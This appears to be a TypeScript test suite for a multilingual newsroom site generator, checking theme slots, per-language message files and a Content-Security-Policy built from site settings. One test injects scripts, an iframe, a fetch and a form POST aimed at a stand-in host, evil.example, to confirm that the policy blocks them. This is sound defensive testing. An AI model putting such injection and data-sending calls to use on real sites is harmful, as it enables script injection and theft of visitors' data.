import type { Page, Route } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { complaintsOf, servedSite } from "../demo/served-site.ts";
import { buildAndCompare } from "../site/build-and-compare.ts";
import { buildBeside, buildChange } from "../site/build-beside.ts";
import { pressed, SmallSite } from "../site/small-site.ts";

const site = SmallSite.empty();
site.story("2025/02/10-s", { slug: "s", tags: "[Україна]" });
site.story("2025/02/10-s", { slug: "s" }, "Text.", "en");
site.write("pages/about/uk.md", "---\ntitle: Про нас\nlede: Хто ми.\n---\nТекст.\n");
site.write("static/own.js", "document.documentElement.dataset.own = 'ran';");
const settings = site.content("site.yaml");

beforeAll(async () => {
  const { code, said } = await buildBeside(site);
  expect(code, said).toBe(0);
});
afterAll(() => site.remove());

const STORY = "/2025/02/10/s/";
const ENGLISH = "/en/2025/02/10/s/";

test("a slot presses the pages that show it, in the languages that have it; without it, nothing differs by a byte", async () => {
  const own = site.copy();
  own.write("theme/slots/after-text.uk.html", "<p>Підтримайте</p>");
  expect(pressed(await buildAndCompare(own))).toEqual([STORY]);
  own.write("theme/slots/after-list.html", "<p>Ще</p>");
  const lists = pressed(await buildChange(own));
  expect(lists).toContain("/");
  expect(lists).toContain("/en/topics/ukraine/");
  expect(lists.filter((path) => path.endsWith("/s/") || !path.endsWith("/"))).toEqual([]);
  own.delete("theme");
  expect((await buildChange(own)).code).toBe(0);
  expect(own.difference(site)).toEqual([]);
});

test("words of a language press what is in it alone; a mistake in them leaves the site as it is", async () => {
  const own = site.copy();
  own.write("theme/messages/en.yaml", "byline:\n  published: Out since\n");
  const paths = pressed(await buildChange(own));
  expect(paths).toContain(ENGLISH);
  expect(paths).toContain("/en/feed.xml");
  expect(paths.filter((path) => !path.startsWith("/en/") && !path.startsWith("/search/en/"))).toEqual([]);
  expect(own.read(`${ENGLISH}index.html`)).toContain("Out since");
  const before = own.snapshot();
  own.write("theme/messages/en.yaml", "byline:\n  publisht: Out since\n");
  const run = await buildChange(own);
  expect(run.code).toBe(1);
  expect(run.said).toContain('theme/messages/en.yaml:2: error: there is no message "byline.publisht"');
  expect(own.snapshot()).toEqual(before);
});

const POLICY = `policy:
  script: https://plausible.example
  connect: https://plausible.example
  form: https://letters.example
  frame: https://pay.example
`;

/** A newsroom with analytics, a newsletter and a donation box. */
const equipped = SmallSite.empty();
beforeAll(async () => {
  for (const file of ["articles/2025/02/10-s/uk.md", "pages/about/uk.md", "static/own.js"])
    equipped.write(file, site.content(file));
  equipped.write("site.yaml", settings + POLICY);
  const slots = {
    head: `<script defer data-domain="news.example" src="https://plausible.example/js/script.js"></script>
<script>document.documentElement.dataset.inline = "ran";</script><script src="/own.js"></script>
<style>.donate { color: rgb(1, 2, 3) }</style>`,
    footer:
      '<form action="https://letters.example/subscribe" method="post"><label>Пошта <input name="email"></label><button>Підписатися</button></form>',
    "after-text":
      '<p class="donate">Підтримайте</p><iframe title="Внесок" src="https://pay.example/widget"></iframe>',
  };
  for (const [name, html] of Object.entries(slots)) equipped.write(`theme/slots/${name}.html`, html);
  const { code, said } = await buildBeside(equipped);
  expect(code, said).toBe(0);
});
afterAll(() => equipped.remove());

const served = servedSite(() => equipped.output);

/** Where the script of the analytics says that a page was opened. */
const EVENT = "https://plausible.example/api/event";

/** What each of the others answers. */
const ANSWERS: Readonly<Record<string, { contentType: string; body: string }>> = {
  "https://plausible.example/js/script.js": {
    contentType: "text/javascript",
    body: `document.documentElement.dataset.foreign = "ran";
fetch("https://plausible.example/api/event", { method: "POST", body: "{}" });`,
  },
  "https://plausible.example/api/event": { contentType: "text/plain", body: "ok" },
  "https://pay.example/widget": { contentType: "text/html", body: "<p>widget</p>" },
  "https://letters.example/subscribe": { contentType: "text/html", body: "<p>thanks</p>" },
};

/** A page, and the addresses of others that its browser asked for. */
async function opened(address: string): Promise<{ page: Page; asked: string[]; refused: string[] }> {
  const page = await served.open("/robots.txt");
  const asked: string[] = [];
  const refused = complaintsOf(page);
  await page.route(/^https:/, (route: Route) => {
    const url = route.request().url();
    asked.push(url);
    return route.fulfill({
      headers: { "Access-Control-Allow-Origin": "*" },
      ...(ANSWERS[url] ?? {
        contentType: "text/javascript",
        body: "document.documentElement.dataset.bad = 'ran'",
      }),
    });
  });
  const told = page.waitForResponse(EVENT);
  await page.goto(served.origin + address, { waitUntil: "load" });
  await told;
  return { page, asked, refused };
}

/** What a script in the page may try: other hosts, other inline scripts, other places to send a form to. */
const INTRUSION = `(async () => {
  const seen = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
    seen.push(effectiveDirective + " " + blockedURI));
  const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set));
  add("script", { src: "https://evil.example/a.js" });
  add("script", { textContent: "document.documentElement.dataset.bad = 'ran'" });
  add("iframe", { src: "https://evil.example/frame" });
  add("img", { src: "https://plausible.example/pixel.png" });
  await fetch("https://evil.example/ask").catch(() => undefined);
  const form = Object.assign(document.createElement("form"), { action: "https://evil.example/send", method: "post" });
  document.body.append(form);
  form.submit();
  while (seen.length < 6) await new Promise((done) => requestAnimationFrame(done));
  return seen.sort();
})()`;

test("a page does what its slots say, and nothing else", async () => {
  const { page, asked, refused } = await opened(STORY);
  expect(asked.toSorted()).toEqual([
    "https://pay.example/widget",
    "https://plausible.example/api/event",
    "https://plausible.example/js/script.js",
  ]);
  expect(await page.evaluate("({ ...document.documentElement.dataset })")).toMatchObject({
    inline: "ran",
    foreign: "ran",
    own: "ran",
  });
  expect(await page.evaluate('getComputedStyle(document.querySelector(".donate")).color')).toBe(
    "rgb(1, 2, 3)",
  );
  expect(await page.frameLocator("iframe").locator("p").textContent()).toBe("widget");
  expect(refused).toEqual([]);
  const blocked = await page.evaluate(INTRUSION);
  expect(blocked).toEqual([
    "connect-src https://evil.example/ask",
    "form-action https://evil.example/send",
    "frame-src https://evil.example",
    "img-src https://plausible.example/pixel.png",
    "script-src-elem https://evil.example/a.js",
    "script-src-elem inline",
  ]);
  expect(await page.evaluate("document.documentElement.dataset.bad")).toBeUndefined();
  expect(asked.filter((url) => url.includes("evil"))).toEqual([]);
  await page.context().close();
});

test("a slot on stories opens nothing on other pages, where a form of the footer is sent to its host", async () => {
  const { page } = await opened("/");
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(policy).toContain("form-action https://letters.example;");
  expect(policy).toContain("script-src 'self' 'sha256-");
  expect(policy).not.toContain("pay.example");
  expect(policy).not.toContain("frame-src");
  await page.getByRole("button", { name: "Підписатися" }).click();
  await page.getByText("thanks").waitFor();
  await page.context().close();
});
